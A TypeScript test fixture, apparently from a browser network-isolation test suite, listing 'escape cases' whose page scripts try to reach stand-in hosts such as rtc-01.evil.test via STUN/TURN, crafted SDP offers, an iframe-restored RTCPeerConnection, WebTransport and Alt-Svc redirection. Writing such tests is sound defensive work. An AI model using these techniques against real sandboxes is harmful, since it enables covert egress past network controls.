import { LITERAL_ADDRESS } from '../namespace/addresses.ts'
import type { EscapeCase } from './escape-case.ts'
import { script } from './page-script.ts'

const category = 'webrtc-quic'

function gather(server: string, credentials = ''): string {
  return `const peer = new RTCPeerConnection({ iceServers: [{ urls: '${server}', ${credentials} }] })
    globalThis.kept = peer
    peer.createDataChannel('words')
    await peer.setLocalDescription(await peer.createOffer())`
}

const credentials = `username: 'u', credential: 'p'`

/** An offer that names one place to send to, by its address. */
const offer = [
  'v=0',
  'o=- 1 1 IN IP4 127.0.0.1',
  's=-',
  't=0 0',
  'a=group:BUNDLE 0',
  'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
  'c=IN IP4 0.0.0.0',
  'a=ice-ufrag:words',
  'a=ice-pwd:wordswordswordswordswords',
  `a=fingerprint:sha-256 ${Array.from({ length: 32 }, () => 'AA').join(':')}`,
  'a=setup:actpass',
  'a=mid:0',
  'a=sctp-port:5000',
  `a=candidate:1 1 udp 2113937151 ${LITERAL_ADDRESS.address} 19302 typ host`,
  '',
].join('\r\n')

export const webrtcQuicCases: readonly EscapeCase[] = [
  { id: 'RTC-01', category, attack: 'STUN over UDP', page: script(gather('stun:rtc-01.evil.test:3478')) },
  {
    id: 'X-TURN',
    category,
    attack: 'TURN over UDP',
    page: script(gather('turn:x-turn.evil.test:3479', credentials)),
  },
  {
    id: 'RTC-03',
    category,
    attack: 'TURN over TCP',
    page: script(gather('turn:rtc-03.evil.test:3480?transport=tcp', credentials)),
  },
  {
    id: 'X-TURNS',
    category,
    attack: 'TURN over TLS',
    page: script(gather('turns:x-turns.evil.test:443?transport=tcp', credentials)),
  },
  {
    id: 'RTC-05',
    category,
    attack: 'a peer named by its address',
    page: script(`const peer = globalThis.kept = new RTCPeerConnection()
      await peer.setRemoteDescription({ type: 'offer', sdp: ${JSON.stringify(offer)} })
      await peer.setLocalDescription(await peer.createAnswer())`),
  },
  {
    id: 'RTC-07',
    category,
    attack: 'a peer connection out of an empty frame',
    page: script(`delete globalThis.RTCPeerConnection
      const frame = document.body.appendChild(document.createElement('iframe'))
      const { RTCPeerConnection } = frame.contentWindow
      ${gather('stun:rtc-07.evil.test:3478')}`),
  },
  {
    id: 'RTC-09',
    category,
    attack: 'WebTransport',
    page: script(`globalThis.kept = new WebTransport('https://rtc-09.evil.test/wt')`),
  },
  {
    id: 'RTC-11',
    category,
    attack: 'Alt-Svc to a host outside',
    alone: true,
    page: {
      headers: { 'alt-svc': 'h3="rtc-11.evil.test:443"; ma=3600' },
      body: script(`for (let count = 0; count < 5; count++) await fetch('/atk/rtc-11/' + count)`),
    },
  },
]
